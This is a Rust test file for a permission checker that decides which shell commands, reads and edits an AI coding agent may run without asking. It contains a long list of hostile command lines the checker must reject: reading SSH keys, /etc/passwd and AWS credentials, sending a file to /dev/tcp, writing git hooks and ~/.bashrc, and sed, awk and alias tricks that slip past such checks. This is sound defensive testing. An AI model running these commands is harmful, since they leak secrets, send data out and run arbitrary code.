//! Which lines need no question, and which do.

use midrail_core::Event;
use serde_json::json;

use super::*;
use crate::shared::data::PROGRAMS;
use crate::shared::settings::patterns;
use crate::tests::Run;

fn vouch() -> Vouch {
    let all = OneOrMany(patterns(&["**"]));
    let commands = OneOrMany(vec![VouchedCommand::Words("frob check".to_owned())]);
    Vouch { reads: all.clone(), edits: all, commands, builds: true, ..Vouch::default() }
}

fn in_repository() -> Run {
    let mut run = Run::of(vouch()).with_git("main", "c1").with_file("src/a.rs", "fn main() {}");
    if let Some(git) = &mut run.git {
        git.top = ".".to_owned();
    }
    run
}

fn vouched(command: &str) -> bool {
    in_repository().before("Bash", json!({"command": command})).vouched
}

/// A file that a command reads is judged only if the analysis of command lines finds it.
#[test]
fn files_of_every_reading_command_are_known() {
    for list in ["reading commands", "commands that read their folder", "editing commands"] {
        for row in PROGRAMS.list(list) {
            let program = row.split(':').next().unwrap_or(row);
            let line = match program {
                "tr" | "readlink" => continue,
                "grep" | "egrep" | "fgrep" | "rg" | "jq" | "awk" | "sed" | "fd" | "fdfind" => {
                    format!("{program} p /etc/passwd")
                }
                "chmod +x" => "chmod +x /etc/passwd".to_owned(),
                "cp" | "mv" => format!("{program} src/a.rs /etc/passwd"),
                _ => format!("{program} /etc/passwd"),
            };
            let action = midrail_shell::action::derive(&Event::before_tool("Bash", json!({"command": line})));
            let files = action.unwrap().target_files.unwrap_or_default();
            assert!(files.iter().any(|file| file == "/etc/passwd"), "{line}: {files:?}");
            assert!(!vouched(&line), "{line}");
        }
    }
}

#[test]
fn everyday_lines_are_vouched_for() {
    for line in [
        "ls -la",
        "cat src/a.rs | head -20",
        "grep -rn 'fn main' src --include='*.rs' | wc -l",
        "find . -name '*.rs' -not -path './target/*' | sort | uniq -c",
        "rg -n main src",
        "cd src && ls && cat a.rs",
        "for f in src/a.rs; do echo \"== $f\"; sed -n '1,5p' $f; done",
        "git log --oneline -5; git diff HEAD~1 -- src | head -50",
        "git branch --show-current && git status --porcelain",
        "if [ -f src/a.rs ]; then echo yes; else echo no; fi",
        "wc -l src/*.rs",
        "echo \"$HOME\"",
        "rustc --version; cargo --version",
        "awk '{print $1}' src/a.rs",
        "jq .name src/a.rs 2>/dev/null || true",
        "mkdir -p src/b && cp src/a.rs src/b/a.rs",
        "cat > src/b.rs <<'EOF'\nfn b() {}\nEOF",
        "sed -i 's/main/run/' src/a.rs",
        "frob check --fast",
        "diff src/a.rs <(sort src/a.rs)",
    ] {
        assert!(vouched(line), "{line}");
    }
}

#[test]
fn whatever_can_do_more_is_not_vouched_for() {
    for line in [
        "cat ~/.ssh/id_rsa",
        "cat /etc/passwd",
        "cat $FILE",
        "cat ../other/a.rs",
        "ls ~",
        "find / -name '*.pem'",
        "find . -name '*.rs' -exec ./run {} \\;",
        "find . -delete",
        "find . -fprintf out.txt x",
        "fd . -x ./run",
        "rg --pre ./run x",
        "rg x *",
        "sort -o src/a.rs src/a.rs",
        "sort --compress-prog=./run src/a.rs",
        "git log --output=src/a.rs",
        "git -c core.pager=./run log",
        "git -C /tmp/other status",
        "cd src && git status",
        "git diff --ext-diff",
        "git grep -O./run main",
        "git branch new",
        "git branch -D main",
        "git stash",
        "git push",
        "GIT_EXTERNAL_DIFF=./run git diff",
        "PATH=.:$PATH ls",
        "LESSOPEN='|./run %s' cat src/a.rs",
        "IFS=x ls",
        "ls() { ./run; }; ls",
        "alias ls=./run; ls",
        "./ls",
        "./run",
        "bash run.sh",
        "sh -c \"$X\"",
        "eval ls $X",
        "cat src/a.rs | sh",
        "echo x | tee >(sh)",
        "sudo ls",
        "env ls",
        "xargs cat < src/a.rs",
        "awk 'BEGIN{system(\"make\")}'",
        "awk 'BEGIN{while((getline l < \"/etc/passwd\")>0) print l}'",
        "awk 'BEGIN{print ENVIRON[\"TOKEN\"]}'",
        "awk -f run.awk src/a.rs",
        "jq -n env",
        "jq -n '$ENV'",
        "sed '1e make' src/a.rs",
        "sed -i 's/a/b/' /etc/hosts",
        "sed -n '1r /etc/passwd' src/a.rs",
        "sed 's/a/b/w out' src/a.rs",
        "sed 's/a/make/e' src/a.rs",
        "sed -e p -e 'e make' src/a.rs",
        "sed -ee src/a.rs",
        "sed --expression=e src/a.rs",
        "sed 's/a/b/;e make' src/a.rs",
        "sed 's/a/b/\ne make' src/a.rs",
        "echo x > .git/hooks/pre-commit",
        "echo x > ~/.bashrc",
        "cp src/a.rs .envrc",
        "cp ~/.aws/credentials src/a.rs",
        "mv src/a.rs /tmp/../etc/a",
        "rm src/a.rs",
        "cat src/a.rs > /dev/tcp/example.com/80",
        "curl https://example.com",
        "date -s 2020-01-01",
        "tree -o src/a.rs",
        "frob publish",
        "frob check; ./run",
        "./frob check",
        "cargo test",
        "exec 3<>/dev/tcp/example.com/80",
        "trap ./run EXIT; ls",
        "coproc ./run",
        "file -C -m src/a.rs",
        "git stash push",
        "ls $(cat src/a.rs)",
        "ls `./run`",
    ] {
        if line == "env ls" {
            // It starts `ls` and nothing else.
            assert!(vouched(line));
            continue;
        }
        assert!(!vouched(line), "{line}");
    }
}

#[test]
fn links_lead_to_files_that_are_not_listed() {
    let mut run = Run::of(vouch()).with_link("notes", "/etc/passwd", "root");
    assert!(!run.before("Read", json!({"file_path": "notes"})).vouched);
    assert!(!run.before("Bash", json!({"command": "cat notes"})).vouched);
}

#[test]
fn edits_need_a_repository_and_a_listed_place() {
    let edit = json!({"file_path": "src/a.rs", "old_string": "main", "new_string": "run"});
    assert!(in_repository().before("Edit", edit.clone()).vouched);
    let mut outside = Run::of(vouch()).with_file("src/a.rs", "fn main() {}");
    assert!(!outside.before("Edit", edit).vouched);
    for path in [".git/config", "sub/.envrc", "/etc/hosts", "~/.bashrc", "../a.rs", ".claude/settings.json"] {
        let write = json!({"file_path": path, "content": "x"});
        assert!(!in_repository().before("Write", write).vouched, "{path}");
    }
}

#[test]
fn facts_that_are_missing_withhold_it_and_stop_nothing() {
    let mut run = Run::of(vouch()).without_files();
    let decision = run.before("Read", json!({"file_path": "src/a.rs"}));
    assert_eq!((decision.effect, decision.vouched), (Effect::Allow, false));
}
